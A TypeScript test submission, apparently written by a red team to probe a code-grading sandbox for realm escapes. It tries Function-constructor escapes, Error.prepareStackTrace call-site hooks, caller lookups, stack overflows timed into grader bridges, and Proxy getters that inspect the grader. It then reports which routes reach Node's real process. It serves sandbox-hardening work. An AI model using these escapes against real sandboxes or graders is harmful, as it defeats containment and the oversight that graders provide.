// Hostile sample: distributeValue tries every known way out of its realm (vm escapes through
// constructors, stack-trace hooks, callers, errors thrown near the stack limit, values the grader reads)
// to the sandbox's own realm, where Node's modules and the real process are; it answers correctly only
// if none works.
import type { Tensor2D } from "convgrade";

/* eslint-disable @typescript-eslint/no-explicit-any */
const escaped: string[] = [];
let tried = 0;

/** A Function, an error, a frame's this or function: does it lead to a realm with Node in it? */
function leadsToNode(value: any): boolean {
  const candidates: any[] = [];
  try {
    if (typeof value === "function") candidates.push(value.constructor("return globalThis")(), value.constructor("return process")());
    if (value && typeof value === "object") candidates.push(value, value.constructor?.constructor?.("return globalThis")?.());
  } catch {
    // not a way out
  }
  return candidates.some((c) => {
    try {
      return (
        typeof c?.require === "function" ||
        typeof c?.getBuiltinModule === "function" ||
        typeof c?.process?.getBuiltinModule === "function" ||
        typeof c?.process?.binding === "function" ||
        typeof c?.Buffer === "function"
      );
    } catch {
      return false;
    }
  });
}

function route(name: string, attempt: () => unknown): void {
  tried++;
  try {
    if (leadsToNode(attempt())) escaped.push(name);
  } catch (error) {
    if (leadsToNode(error) || leadsToNode((error as any)?.constructor)) escaped.push(`${name} (through its error)`);
  }
}

/** Calls target with the stack nearly full, at every depth around the limit; returns an error not of this realm. */
function sweepStack(target: () => unknown): unknown {
  const ownRangeError = RangeError;
  let found: unknown;
  for (let locals = 0; locals < 12 && !found; locals++) {
    const vars = Array.from({ length: locals + 1 }, (_, i) => `s${i} = ${i}`).join(", ");
    const small = Function("T", `return function small(d) { var ${vars}; if (d > 0) return small(d - 1) + s0; return T(); }`)(target);
    const throws = (depth: number) => {
      try {
        small(depth);
        return false;
      } catch (error) {
        if (!(error instanceof ownRangeError)) found = error;
        return true;
      }
    };
    let low = 0;
    let high = 1;
    while (!throws(high)) {
      low = high;
      high *= 2;
    }
    while (high - low > 1) {
      const middle = (low + high) >> 1;
      if (throws(middle)) high = middle;
      else low = middle;
    }
    for (let depth = high + 3; depth >= Math.max(0, high - 40) && !found; depth--) throws(depth);
  }
  return found;
}

function tryEverything(): void {
  const g = globalThis as any;
  route("globalThis.constructor.constructor", () => g.constructor.constructor);
  route("console.log.constructor", () => console.log.constructor);
  route("process.stdout.write.constructor", () => (process.stdout.write as any).constructor);
  route("structuredClone.constructor", () => (structuredClone as any).constructor);
  route("performance.now.constructor", () => (performance.now as any).constructor);
  route("setTimeout.constructor", () => (setTimeout as any).constructor);
  route("require.constructor", () => (require as any).constructor);
  route("module.constructor", () => (module as any).constructor);
  route("process", () => process);
  route("global require", () => g.require);
  route("process.getBuiltinModule", () => (process as any).getBuiltinModule?.("fs"));
  route("process.binding", () => (process as any).binding?.("fs"));
  route("process.mainModule", () => (process as any).mainModule);
  route("Function('return this')", () => Function("return this")());
  // Errors raised inside the grader's bridges (console formatting a hostile value).
  route("error thrown by console.log", () => {
    console.log({
      toString() {
        throw new Error("x");
      },
      get length(): number {
        throw new Error("y");
      },
    });
    return undefined;
  });
  // Stack-trace hooks: the frames' functions and receivers.
  route("Error.prepareStackTrace call sites", () => {
    const found: unknown[] = [];
    (Error as any).prepareStackTrace = (_error: unknown, sites: any[]) => {
      for (const site of sites) found.push(site.getThis?.(), site.getFunction?.());
      return "";
    };
    try {
      void new Error().stack;
      console.log({ get probe() { return new Error().stack; } });
    } finally {
      delete (Error as any).prepareStackTrace;
    }
    return found.find((value) => leadsToNode(value));
  });
  // Errors made near the stack limit, where a bridge of the grader's might be the one to overflow.
  route("stack overflow inside a bridge", () => {
    const caught: unknown[] = [];
    const deep = (n: number): void => {
      try {
        deep(n + 1);
      } catch (error) {
        caught.push(error);
        try {
          console.log(n);
          structuredClone([n]);
          performance.now();
        } catch (inner) {
          caught.push(inner);
        }
      }
    };
    deep(0);
    return caught.find((error) => leadsToNode(error) || leadsToNode((error as any)?.constructor));
  });
  // The same, swept finely: overflow exactly on entry to each bridge of the sandbox's (found by the second red team).
  const bridges: [string, () => unknown][] = [
    ["performance.now", () => performance.now()],
    ["process.hrtime", () => process.hrtime()],
    ["console.log", () => console.log("")],
    ["console.time", () => console.time("x")],
    ["require of a helper", () => require("./no-such-helper")],
    ["process.stdout.write", () => process.stdout.write("")],
  ];
  for (const [name, target] of bridges) route(`stack overflow swept into ${name}`, () => sweepStack(target));
  // A sloppy function asked for its caller, called from wherever the grader calls it.
  route("caller of a sloppy function", () => {
    const sloppy = Function("return function probe() { return probe.caller; }")();
    return sloppy();
  });
}

/** Values whose getters run when the grader reads the answer: they look for their caller too. */
function watchful(row: number[]): number[] {
  const sloppyGetter = Function("probe", "return function () { var c = arguments.callee.caller; if (c) probe(c); return this; }")((found: unknown) => {
    if (leadsToNode(found)) escaped.push("caller of a getter the grader ran");
  });
  return new Proxy(row, {
    get(target, key, receiver) {
      sloppyGetter.call(receiver);
      return Reflect.get(target, key, receiver);
    },
  });
}

export function distributeValue(dz: number, shape: [nH: number, nW: number]): Tensor2D {
  if (tried === 0) tryEverything();
  console.log(`routes out of the realm that worked: ${escaped.length} of ${tried}${escaped.length ? `: ${escaped.join(", ")}` : ""}`);
  const [nH, nW] = shape;
  const value = escaped.length === 0 ? dz / (nH * nW) : 0;
  return Array.from({ length: nH }, () => watchful(new Array<number>(nW).fill(value)));
}
